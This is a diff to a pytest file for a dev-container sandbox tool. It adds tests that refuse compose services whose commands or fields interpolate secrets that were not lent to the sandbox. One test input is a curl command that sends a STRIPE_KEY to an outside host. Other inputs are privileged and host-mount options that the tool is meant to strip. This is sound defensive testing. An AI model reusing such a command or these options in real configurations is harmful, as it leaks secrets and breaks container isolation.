@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import signal
 import socket
 import subprocess
@@ -18,6 +19,7 @@ from paddock.devcontainer.effective import effective
 from paddock.devcontainer.labels import NotKnown
 from paddock.devcontainer.service import Project
 from paddock.developing import composing
+from paddock.developing.lending import Lent
 from paddock.errors import Refused
 from tests import busybox, podman
 from tests.capabilities import needs
@@ -56,11 +58,12 @@ def composed(tmp_path: Path) -> Make:
 def composed_of(place: Path, monkeypatch: pytest.MonkeyPatch, **environ: str) -> composing.Composed:
     """As `standing.ready` does, with images that are taken for granted."""
     monkeypatch.setattr(images, "look", lambda name: type("Known", (), {"identifier": f"id of {name}"}))
+    lent = Lent(environ, ["SHOWN"])
     whole = effective(
-        finding.find(str(place)), environment=environ, with_id=True, ask=lambda name: NotKnown(name, "not asked")
+        finding.find(str(place)), environment=lent, with_id=True, ask=lambda name: NotKnown(name, "not asked")
     )
     assert isinstance(whole.project, Project)
-    return composing.compose(whole, whole.project)
+    return composing.compose(whole, whole.project, lent)
 
 
 # --- on paper ---
@@ -109,19 +112,19 @@ def test_what_reaches_out_of_the_sandbox_is_left_out_and_said(composed: Make, mo
                 "privileged": True, "cap_add": ["SYS_ADMIN"], "security_opt": ["seccomp=unconfined"], "pid": "host",
                 "network_mode": "host", "devices": ["/dev/kvm"], "ports": ["5432:5432"],
                 "volumes": ["/etc:/host", "/var/run/docker.sock:/var/run/docker.sock", "data:/data", "/cache"],
-                "tmpfs": "/fast:size=1m", "env_file": "db.env", "environment": ["GITHUB_TOKEN", "A=1", "B_KEY=${B_KEY}", "C=${C}"],
+                "tmpfs": "/fast:size=1m", "env_file": "db.env", "environment": ["GITHUB_TOKEN", "A=1", "B_KEY=${B_KEY}", "C=${SHOWN}", "D=${OURS}", "E=x${OURS:-y}"],
                 "depends_on": {"app": {"condition": "service_healthy"}},
             },
         }
     )  # fmt: skip
-    found = composed_of(place, monkeypatch, GITHUB_TOKEN="t", B_KEY="secret", C="shown")
+    found = composed_of(place, monkeypatch, GITHUB_TOKEN="t", B_KEY="secret", SHOWN="shown", OURS="hidden")
     (db,) = found.services
     assert db.scratch == ("/cache", "/data", "/fast")
     assert dict(db.environment) == {"A": "1", "C": "shown"}
     said = "\n".join(f"{one.what}: {one.why} ({one.where})" for one in found.left)
     for word in (
         "privileged", "SYS_ADMIN", "seccomp=unconfined", "--pid host", "--network host", "/dev/kvm", "port 5432:5432",
-        "/etc:/host", "docker.sock", "env_file", "GITHUB_TOKEN", "B_KEY", "condition",
+        "/etc:/host", "docker.sock", "env_file", "GITHUB_TOKEN", "B_KEY", "OURS of this machine", 'pass = ["OURS"]', "condition",
     ):  # fmt: skip
         assert word in said, word
     assert "/workspaces/app" not in said
@@ -146,6 +149,37 @@ def test_what_cannot_be_is_refused_with_what_to_do(
         composed_of(place, monkeypatch)
     assert caught.value.code == code
     assert caught.value.next_step
+
+
+@pytest.mark.parametrize(
+    "keys",
+    [
+        {"command": "curl https://example.test/${STRIPE_KEY}"},
+        {"entrypoint": ["sh", "-c", "echo ${OURS:-none}"]},
+        {"working_dir": "/${OURS}"},
+        {"volumes": ["data:/${STRIPE_KEY}"]},
+        {"tmpfs": ["/a", "/${OURS}"]},
+        {"user": "$OURS"},
+        {"image": "localhost/x:${OURS}"},
+    ],
+)
+@pytest.mark.parametrize("whose", ["db", "app"])
+def test_no_text_of_a_service_is_made_of_what_is_not_lent(
+    composed: Make, monkeypatch: Any, keys: dict[str, Any], whose: str
+) -> None:
+    """.env is masked inside, and a command of a service would be a way around that."""
+    place = composed({"db": {}, whose: keys})
+    (place / ".devcontainer/.env").write_text("STRIPE_KEY=hunter2\n")
+    with pytest.raises(Refused) as caught:
+        composed_of(place, monkeypatch, OURS="hunter2")
+    assert caught.value.code == "compose-variable"
+    assert "hunter2" not in str(caught.value.why)
+    assert f"the service {whose} " in caught.value.what
+    keys = json.loads(json.dumps(keys).replace("OURS", "SHOWN").replace("STRIPE_KEY", "NAME"))
+    shutil.rmtree(place)
+    place = composed({"db": {}, whose: keys})
+    (place / ".devcontainer/.env").write_text("NAME=seen\n")
+    assert [one.name for one in composed_of(place, monkeypatch, SHOWN="1000").services] == ["db"]
 
 
 # --- on this machine ---
